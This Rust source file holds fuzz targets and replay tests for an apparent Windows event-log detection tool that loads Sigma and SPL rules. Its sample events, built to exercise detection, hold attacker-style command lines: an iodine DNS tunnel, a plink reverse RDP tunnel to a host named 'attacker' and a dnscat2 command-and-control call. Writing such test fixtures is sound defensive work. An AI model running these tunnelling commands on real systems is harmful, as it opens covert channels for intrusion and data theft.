//! What the fuzz targets run, as plain functions: cargo-fuzz calls them with libFuzzer's inputs
//! (`cargo +nightly fuzz run NAME`); the main crate's `tests/untrusted_fuzz_replay.rs` includes
//! this file and replays the seeds and every saved crash input on stable, without libFuzzer.

use evtxscan::discover::LogFile;
use evtxscan::event::{Event, Field, Source};
use evtxscan::read::{read_log, FileControl, ReadOptions};
use evtxscan::rules::loader::{load_files, LoadOptions, LoadReport, RuleFile};
use evtxscan::rules::RuleStatus;
use std::io::Write;
use std::path::PathBuf;
use std::sync::Arc;

/// A Sigma rule file: load it (as `fuzz.yml`), then check every compiled rule against a few
/// hand-built events and finish it.
pub fn sigma_load(data: &[u8]) {
    let text = String::from_utf8_lossy(data).into_owned();
    let report = load(vec![RuleFile {
        path: PathBuf::from("fuzz/sigma_rule.yml"),
        text,
    }]);
    evaluate(&report);
}

/// An SPL search: wrap it in a security_content detection document (`search: '...'`), load it
/// with two macros, then check every compiled rule against a few hand-built events and finish it.
pub fn spl_load_eval(data: &[u8]) {
    let spl = String::from_utf8_lossy(data);
    let text = spl_detection(&spl);
    let report = load(vec![
        RuleFile {
            path: PathBuf::from("fuzz/detections/fuzzed.yml"),
            text,
        },
        RuleFile {
            path: PathBuf::from("fuzz/macros/fuzz_macro.yml"),
            text: "definition: 'EventCode=1 OR EventCode=22'\ndescription: fuzz\nname: fuzz_macro\n"
                .into(),
        },
        RuleFile {
            path: PathBuf::from("fuzz/macros/fuzz_args.yml"),
            text: "arguments:\n  - field\ndefinition: 'eval $field$=lower($field$)'\ndescription: fuzz\nname: fuzz_args(1)\n"
                .into(),
        },
    ]);
    evaluate(&report);
}

/// The SPL search `spl` inside a detection document (control characters other than newline
/// and tab dropped, so the YAML layer accepts it and the fuzzer reaches the SPL parser).
pub fn spl_detection(spl: &str) -> String {
    let clean: String = spl
        .chars()
        .filter(|c| !c.is_control() || *c == '\n' || *c == '\t')
        .collect();
    format!(
        "name: Fuzzed detection\nid: 00000000-0000-4000-8000-00000000f022\nversion: 1\ntype: TTP\nstatus: production\ndescription: fuzz\nsearch: '{}'\n",
        clean.replace('\'', "''")
    )
}

/// An EVTX file: write the bytes to a temporary file and read it (with record carving when the
/// input's length is odd).
pub fn evtx_read(data: &[u8]) {
    let Ok(mut file) = tempfile::NamedTempFile::new() else {
        return;
    };
    if file.write_all(data).and_then(|_| file.flush()).is_err() {
        return;
    }
    let log = LogFile {
        path: file.path().to_path_buf(),
        size: data.len() as u64,
    };
    let options = ReadOptions {
        recover: data.len() % 2 == 1,
        chunk_batch: 2,
        ..ReadOptions::default()
    };
    let report = read_log(&log, &options, &FileControl::default(), &|events: Vec<
        Event,
    >| {
        for e in &events {
            // Touch what detection touches.
            let _ = e.get_str("CommandLine");
            let _ = e.key_fields();
        }
    });
    assert!(report.records_read >= report.records_recovered);
}

fn load(files: Vec<RuleFile>) -> LoadReport {
    let report = load_files(files, &LoadOptions::default(), Vec::new());
    for v in &report.verdicts {
        assert!(
            v.status != RuleStatus::Rejected || !v.reason.trim().is_empty(),
            "a rejection without a reason: {v:?}"
        );
    }
    report
}

fn evaluate(report: &LoadReport) {
    let events = events();
    for rule in &report.rules {
        // As dispatch does: a rule is offered only the events its scope admits.
        let matches: Vec<_> = events
            .iter()
            .filter(|e| rule.scope().admits(e))
            .filter_map(|e| rule.check(e))
            .collect();
        let _ = rule.finish(matches);
    }
}

/// A few events of the kinds the bundled rules look at.
pub fn events() -> Vec<Event> {
    let source = Arc::new(Source {
        path: PathBuf::from("fuzz.evtx"),
    });
    let event = |id: u32, channel: &str, provider: &str, fields: &[(&str, &str)]| {
        let t = jiff::Timestamp::from_second(1_700_000_000 + id as i64).unwrap_or_default();
        Event {
            source: Arc::clone(&source),
            record_id: id as u64,
            time: t,
            header_time: t,
            provider: provider.into(),
            channel: channel.into(),
            event_id: id,
            computer: "WKS-01.corp.local".into(),
            user_id: "S-1-5-21-1-2-3-1001".into(),
            level: 4,
            recovered: false,
            data: fields
                .iter()
                .map(|(n, v)| Field {
                    name: (*n).into(),
                    value: (*v).into(),
                })
                .collect(),
            system: vec![Field {
                name: "Execution_ProcessID".into(),
                value: "4242".into(),
            }],
        }
    };
    let sysmon = "Microsoft-Windows-Sysmon/Operational";
    vec![
        event(
            1,
            sysmon,
            "Microsoft-Windows-Sysmon",
            &[
                ("Image", "C:\\Users\\Public\\iodine.exe"),
                ("CommandLine", "iodine.exe -f -P secret t1.example.com"),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
                ("User", "CORP\\alice"),
                ("OriginalFileName", "iodine.exe"),
            ],
        ),
        event(
            22,
            sysmon,
            "Microsoft-Windows-Sysmon",
            &[
                (
                    "Image",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
                ("QueryName", "pastebin.com"),
                ("QueryStatus", "0"),
                ("QueryResults", "type: 5 ::ffff:104.20.67.143;"),
            ],
        ),
        event(
            4688,
            "Security",
            "Microsoft-Windows-Security-Auditing",
            &[
                ("NewProcessName", "C:\\Windows\\System32\\plink.exe"),
                ("CommandLine", "plink.exe -R 3389:127.0.0.1:3389 attacker"),
                ("SubjectUserName", "alice"),
            ],
        ),
        event(
            4104,
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
            &[
                ("ScriptBlockText", "Start-Dnscat2 -Domain example.com"),
                ("ScriptBlockId", "{00000000-0000-0000-0000-000000000000}"),
            ],
        ),
    ]
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    /// Every file under `fuzz/seeds/NAME` and `fuzz/regressions/NAME` (the saved crashes), and
    /// the rules of `rules/sigma` (Sigma) or the logs of `samples/` (EVTX). Works from the fuzz crate and from the main crate's
    /// `tests/untrusted_fuzz_replay.rs`, which includes this file.
    fn inputs(name: &str) -> Vec<Vec<u8>> {
        let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
        let fuzz = if manifest.join("fuzz").join("seeds").is_dir() {
            manifest.join("fuzz")
        } else {
            manifest.to_path_buf()
        };
        let mut dirs = vec![
            fuzz.join("seeds").join(name),
            fuzz.join("regressions").join(name),
        ];
        match name {
            "sigma_load" => dirs.push(fuzz.join("..").join("rules").join("sigma")),
            "evtx_read" => dirs.push(fuzz.join("..").join("samples")),
            _ => {}
        }
        let mut out = Vec::new();
        for dir in dirs {
            if let Ok(entries) = std::fs::read_dir(&dir) {
                for e in entries.flatten() {
                    if e.path().is_file() {
                        out.push(std::fs::read(e.path()).unwrap());
                    }
                }
            }
        }
        out
    }

    #[test]
    fn replay_sigma() {
        for i in inputs("sigma_load") {
            super::sigma_load(&i);
        }
    }

    #[test]
    fn replay_spl() {
        for i in inputs("spl_load_eval") {
            super::spl_load_eval(&i);
        }
    }

    #[test]
    fn replay_evtx() {
        for i in inputs("evtx_read") {
            super::evtx_read(&i);
        }
    }
}
